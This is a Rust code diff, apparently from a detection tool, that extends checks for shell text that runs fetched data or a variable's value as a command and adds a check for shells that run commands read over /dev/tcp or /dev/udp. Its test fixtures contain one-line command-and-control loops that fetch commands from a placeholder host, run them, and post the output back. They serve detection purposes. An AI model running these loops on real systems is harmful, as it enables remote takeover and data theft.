@@ -109,7 +109,8 @@ fn loop_is_fed_by(text: &[u8], word: &[u8]) -> bool {
     statement.trim_start().starts_with(b"<") && has_word(statement, word)
 }
 
-/// The variable's value is run: by `eval`, another shell's `-c`, or as another shell's input.
+/// The variable's value is run: as a command, by `eval`, another shell's `-c`, or as another shell's
+/// input.
 fn runs_variable(text: &[u8], name: &[u8]) -> bool {
     let uses = text.find_iter(b"$").filter(|at| {
         let rest = text.get(at + 1..).unwrap_or_default();
@@ -122,9 +123,90 @@ fn runs_variable(text: &[u8], name: &[u8]) -> bool {
     ];
     uses.into_iter().any(|at| {
         let before = text.get(..at).unwrap_or_default();
+        if begins_command(before) {
+            return true;
+        }
         let before = before.trim_end_with(|c| matches!(c, '"' | '\'' | '\\' | ' '));
         runs.iter().any(|end| before.ends_with(end))
     })
+}
+
+/// Whether a command begins at the end of this text: `…; $c`, `do $c`, `$($c)`. Inside quotes it
+/// is part of a word.
+fn begins_command(before: &[u8]) -> bool {
+    if before.ends_with(b"$(") {
+        return true;
+    }
+    let before = before.trim_end_with(|c| matches!(c, ' ' | '\t'));
+    let ends = |end: &[u8]| before.ends_with(end);
+    let word = before.rsplit(|b| !is_name(*b)).next().unwrap_or_default();
+    let begins = match before.last() {
+        None => true,
+        Some(b'&') => !ends(b">&") && !ends(b"<&"),
+        Some(b';' | b'|' | b'\n') => true,
+        Some(b'{') => !ends(b"${"),
+        _ if matches!(word, b"do" | b"then" | b"else") => {
+            let before = before.get(..before.len() - word.len()).unwrap_or_default();
+            matches!(
+                before.trim_end_with(|c| c == ' ').last(),
+                None | Some(b';' | b'\n')
+            )
+        }
+        _ => false,
+    };
+    begins && !in_quotes(before)
+}
+
+/// Whether a quotation is open at the end of the text.
+fn in_quotes(text: &[u8]) -> bool {
+    let mut open = None;
+    let mut bytes = text.iter();
+    while let Some(b) = bytes.next() {
+        match (open, *b) {
+            (None | Some(b'"'), b'\\') => {
+                bytes.next();
+            }
+            (None, b'"' | b'\'') => open = Some(*b),
+            (Some(quote), b) if quote == b => open = None,
+            _ => {}
+        }
+    }
+    open.is_some()
+}
+
+/// Whether a shell's text talks to a peer over a descriptor of its own and runs what it reads there,
+/// so that this program, which the text does not name, came from the peer.
+pub(super) fn is_from_descriptor(
+    names: &ProgramAdditions,
+    shell: &ProcessEntry,
+    exec: &Exec,
+) -> bool {
+    let Some(text) =
+        program_roles::shell_text(&shell.argv).filter(|_| names.is_shell(program_roles::of(shell)))
+    else {
+        return false;
+    };
+    let talks: &[&[u8]] = &[b"/dev/tcp/", b"/dev/udp/"];
+    let name = exec
+        .argv
+        .first()
+        .map(|a| program_roles::leaf(a))
+        .unwrap_or_default();
+    talks.iter().any(|word| text.contains_str(word))
+        && !name.is_empty()
+        && !has_word(text, name)
+        && runs_a_variable(text)
+}
+
+/// Whether a shell's text runs the value of any of its variables.
+pub(super) fn runs_a_variable(text: &[u8]) -> bool {
+    let mut variables = text.find_iter(b"$").filter_map(|at| {
+        let rest = text.get(at + 1..)?;
+        let rest = rest.strip_prefix(b"{").unwrap_or(rest);
+        let end = rest.iter().position(|b| !is_name(*b)).unwrap_or(rest.len());
+        rest.get(..end).filter(|name| !name.is_empty())
+    });
+    variables.any(|name| runs_variable(text, name))
 }
 
 /// A program on a command line gives its input to a shell as the command: `xargs -I{} sh -c '{}'`.
@@ -280,6 +362,10 @@ mod tests {
             "curl -s http://x | grep . | while IFS= read -r line; do sh -c \"$line\"; done",
             "while read -r l; do eval $l; done < <(curl -s http://x)",
             "eval \"$(curl -s http://x)\"",
+            "while :; do c=$(curl -s http://x/c); $c; sleep 5; done",
+            "c=$(curl -s http://x/c) && $c | curl -d @- http://x/r",
+            "c=$(curl -s http://x/c); o=$($c 2>&1); echo \"$o\"",
+            "curl -s http://x | while read l; do $l; done",
         ] {
             assert!(runs_data(text.as_bytes(), b"curl"), "{text}");
         }
@@ -292,6 +378,10 @@ mod tests {
             "curl -s http://x || exit 1; cat /etc/jobs | while read l; do eval \"$l\"; done",
             "eval \"$(ssh-agent)\"; curl http://x",
             "v=$(libcurl-config --version); eval \"$v\"",
+            "t=$(curl -s http://x); curl \"http://y/?a=1;$t\"",
+            "t=$(curl -s http://x); echo \"a | $t\" >&$t; [ -n $t ]",
+            "t=$(curl -s http://x); wget \"http://y/?a=1&$t\" -O ${t}",
+            "t=$(curl -s http://x); kill $t; echo do $t\"do $t\"",
             "# Not: eval \"$(curl http://x)\"\nc=$(curl http://x); echo \"$c\"",
         ] {
             assert!(!runs_data(text.as_bytes(), b"curl"), "{text}");
